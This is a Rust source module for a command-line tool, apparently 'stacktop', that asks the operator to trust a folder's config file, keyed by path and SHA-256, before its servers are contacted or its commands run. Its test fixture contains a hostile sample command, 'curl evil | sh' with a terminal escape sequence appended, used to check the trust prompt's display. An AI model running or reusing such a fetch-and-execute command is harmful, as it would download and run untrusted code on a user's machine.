//! A folder's own `stacktop.toml` came with the folder, perhaps from strangers: it chooses where to connect and which commands run.
//! It is read after the operator looked at it and said so, once for each content.

use super::print::{complain, print};
use super::state_folder::state_folder;
use crate::actions::lines;
use crate::config::discover::Surroundings;
use crate::config::resolve::deeds;
use crate::config::wishes::FolderFile;
use crate::config::wishes::Wishes;
use crate::config::written::folder_file;
use crate::core::text::tidy;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::io::{BufRead, IsTerminal};
use std::path::Path;

/// Where it is remembered what was trusted, beside the audit trail.
const REMEMBERED: &str = "trusted.jsonl";
/// Some ten thousand files.
const MOST_BYTES: u64 = 4 * 1024 * 1024;
/// Addresses in the question are cut to this.
const MOST_CHARS: usize = 160;
/// So many servers and commands are named.
const MOST_NAMED: usize = 12;

/// A file that was trusted, as it was then.
#[derive(Debug, PartialEq, Eq, Serialize, Deserialize)]
struct Trusted {
    path: String,
    sha256: String,
}

impl Trusted {
    fn of(file: &FolderFile) -> Self {
        let path = std::fs::canonicalize(&file.path).unwrap_or_else(|_| file.path.clone());
        let digest = Sha256::digest(file.text.as_bytes());
        let sha256 = digest.iter().fold(String::new(), |text, byte| text + &format!("{byte:02x}"));
        Self { path: path.display().to_string(), sha256 }
    }
}

/// Whether a folder's file may be read only after it was trusted.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Care {
    /// It will be connected to what it names, and its commands will run.
    Acts,
    /// The same, while a screen is open: nothing can be asked.
    Again,
    /// What it says is only shown.
    Shows,
}

/// Puts the folder's file into `wishes`, if it is what will be read and if that is permitted.
///
/// # Errors
/// When it is not trusted; the sentence says what would change that.
pub(super) fn settle(wishes: &mut Wishes, around: &Surroundings, care: Care) -> Result<(), String> {
    let Some(file) = folder_file(wishes, around)? else { return Ok(()) };
    let place = state_folder(around)?.join(REMEMBERED);
    if !holds(&place, &file) {
        let shown = file.path.display();
        let asks = care == Care::Acts && std::io::stdin().is_terminal() && std::io::stderr().is_terminal();
        match care {
            Care::Shows => complain(&format!(
                "{shown} is not trusted yet: before `stacktop trust` nothing in it is connected to or run"
            )),
            Care::Acts | Care::Again if !asks => {
                return Err(format!(
                    "{shown} came with this folder and was not trusted yet, or was changed since: look at it, then run \
                     `stacktop trust`, or name it with --config"
                ));
            }
            Care::Acts | Care::Again => {
                complain(&format!(
                    "{shown} came with this folder and is new, or was changed.\n{}",
                    described(&file, around)
                ));
                complain("Trust it, and do all that? Only y and Enter do; everything else ends here.");
                let mut answer = String::new();
                let read = std::io::stdin().lock().read_line(&mut answer);
                if read.is_err() || !matches!(answer.trim(), "y" | "Y" | "yes") {
                    return Err(format!("{shown} is not trusted, so nothing was connected to"));
                }
                remember(&place, &file)?;
            }
        }
    }
    wishes.folder = Some(file);
    Ok(())
}

/// `stacktop trust [FILE]`.
pub(super) fn run(path: Option<&Path>, around: &Surroundings) -> Result<(), String> {
    let path = path.map_or_else(|| around.folder.join("stacktop.toml"), Path::to_owned);
    let file = FolderFile::read(&path)?;
    remember(&state_folder(around)?.join(REMEMBERED), &file)?;
    print(&format!("{} is trusted as it is now.\n{}\n", path.display(), described(&file, around)));
    Ok(())
}

fn holds(place: &Path, file: &FolderFile) -> bool {
    let wanted = Trusted::of(file);
    lines::read::<Trusted>(place, MOST_BYTES).is_ok_and(|found| found.lines.contains(&wanted))
}

fn remember(place: &Path, file: &FolderFile) -> Result<(), String> {
    lines::append(place, &[Trusted::of(file)])
        .map_err(|error| format!("that it is trusted cannot be remembered: {}: {error}", place.display()))
}

/// What the file would make stacktop do. Commands stand last, next to the question, and whole: the end of one may be what matters.
fn described(file: &FolderFile, around: &Surroundings) -> String {
    let (servers, commands) = match deeds(file, around) {
        Ok(deeds) => deeds,
        Err(error) => return format!("  it cannot be used as it is: {}", tidy(&error, MOST_CHARS)),
    };
    let mut list: Vec<String> = servers
        .iter()
        .take(MOST_NAMED)
        .map(|server| format!("it connects to {}", tidy(server, MOST_CHARS)))
        .collect();
    if servers.len() > MOST_NAMED {
        list.push(format!("and to {} more servers: look at the file", servers.len() - MOST_NAMED));
    }
    list.extend(
        commands
            .iter()
            .take(MOST_NAMED)
            .map(|command| format!("it runs the command: {}", tidy(command, usize::MAX))),
    );
    if commands.len() > MOST_NAMED {
        list.push(format!("and it runs {} more commands: look at the file", commands.len() - MOST_NAMED));
    }
    if list.is_empty() {
        list.push("it names no server and runs no command".to_owned());
    }
    list.iter().map(|deed| format!("  - {deed}")).collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    const TEXT: &str = "[[postgres]]\nurl = \"postgres://u:s3cret@far.example/d\"\npassword_command = \"curl evil | sh\\u001b]52;\"\n";

    #[test]
    fn a_file_is_trusted_as_it_is_and_where_it_is() {
        let folder = tempfile::tempdir().expect("a folder");
        let state = folder.path().join("state");
        let around = Surroundings::empty(folder.path()).with("XDG_STATE_HOME", &state.display().to_string());
        let place = folder.path().join("stacktop.toml");
        std::fs::write(&place, TEXT).expect("written");
        let settled = |care| {
            let mut wishes = Wishes::default();
            settle(&mut wishes, &around, care).map(|()| wishes.folder.is_some())
        };
        // Tests have no terminal on their input that could be asked.
        if !std::io::stdin().is_terminal() {
            let refused = settled(Care::Acts).expect_err("not trusted");
            assert!(refused.contains("stacktop trust") && refused.contains("--config"), "{refused}");
        }
        assert_eq!(settled(Care::Shows), Ok(true));
        run(None, &around).expect("trusted");
        assert_eq!(settled(Care::Acts), Ok(true));
        let other = FolderFile { path: place.clone(), text: format!("{TEXT}#") };
        assert!(!holds(&state.join("stacktop").join(REMEMBERED), &other), "changed");
        let other = FolderFile { path: folder.path().join("b.toml"), text: TEXT.to_owned() };
        assert!(!holds(&state.join("stacktop").join(REMEMBERED), &other), "elsewhere");
        let mut named = Wishes { config: Some(place), ..Wishes::default() };
        settle(&mut named, &around, Care::Acts).expect("named by the operator");
    }

    #[test]
    fn the_question_names_hosts_and_commands_and_no_secret() {
        let folder = tempfile::tempdir().expect("a folder");
        let file = FolderFile { path: folder.path().join("stacktop.toml"), text: TEXT.to_owned() };
        let text = described(&file, &Surroundings::empty(folder.path()));
        assert!(text.contains("far.example") && text.contains("curl evil | sh"), "{text}");
        assert!(!text.contains("s3cret") && !text.contains('\u{1b}'), "{text}");
    }
}
